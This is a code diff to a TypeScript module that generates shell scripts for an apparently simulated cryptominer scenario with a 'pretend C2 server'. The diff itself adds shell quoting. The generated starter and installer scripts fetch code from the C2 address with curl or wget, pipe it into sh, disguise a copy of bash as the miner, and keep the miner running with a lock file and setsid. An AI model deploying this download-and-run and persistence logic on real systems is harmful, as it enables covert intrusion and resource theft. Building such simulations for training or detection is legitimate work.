@@ -1,6 +1,7 @@
 import { basename } from 'node:path';
 import { C2, STARTS_FILE } from '../places.ts';
 import { REFUSAL } from './refusal.ts';
+import { shellWord } from './shell-word.ts';
 
 /** Names that a scenario chooses for its miner. */
 export interface MinerNames {
@@ -110,27 +111,27 @@ function partOf({ part }: MinerNames): string {
 export function starterScript(names: MinerNames): string {
   return `#!/bin/sh
 ${REFUSAL}
-d=${names.folder}
-if [ ! -x $d/${names.program} ] || [ ! -r $d/${names.script} ]; then
+d=${shellWord(names.folder)}
+if [ ! -x "$d"/${shellWord(names.program)} ] || [ ! -r "$d"/${shellWord(names.script)} ]; then
   { curl -fsSL -m 20 http://${C2.address}/${names.download} || wget -q -T 20 -O- http://${C2.address}/${names.download}; } 2> /dev/null | sh -s "${'$'}{1-starter}"
   exit
 fi
-exec 9>> $d/.lock
+exec 9>> "$d/.lock"
 flock -n 9 || exit 0
-STARTED_BY=${'$'}{1-starter} ${partOf(names)}setsid nice -n 19 $d/${names.program} ${minerArguments(names).join(' ')} < /dev/null > /dev/null 2>&1 &
+STARTED_BY=${'$'}{1-starter} ${partOf(names)}setsid nice -n 19 "$d"/${shellWord(names.program)} ${minerArguments(names).map(shellWord).join(' ')} < /dev/null > /dev/null 2>&1 &
 `;
 }
 
 /** What the pretend C2 server serves: puts the miner back and starts it. */
 export function installerScript(names: MinerNames): string {
   return `${REFUSAL}
-d=${names.folder}
-mkdir -p $d 2> /dev/null && chmod 777 $d 2> /dev/null
-[ -x $d/${names.program} ] || cp /bin/bash $d/${names.program}
-cat > $d/${names.script} << 'END_OF_MINER'
+d=${shellWord(names.folder)}
+mkdir -p "$d" 2> /dev/null && chmod 777 "$d" 2> /dev/null
+[ -x "$d"/${shellWord(names.program)} ] || cp /bin/bash "$d"/${shellWord(names.program)}
+cat > "$d"/${shellWord(names.script)} << 'END_OF_MINER'
 ${MINER_SCRIPT}END_OF_MINER
-exec 9>> $d/.lock
+exec 9>> "$d/.lock"
 flock -n 9 || exit 0
-STARTED_BY=${'$'}{1-download} ${partOf(names)}setsid nice -n 19 $d/${names.program} ${minerArguments(names).join(' ')} < /dev/null > /dev/null 2>&1 &
+STARTED_BY=${'$'}{1-download} ${partOf(names)}setsid nice -n 19 "$d"/${shellWord(names.program)} ${minerArguments(names).map(shellWord).join(' ')} < /dev/null > /dev/null 2>&1 &
 `;
 }
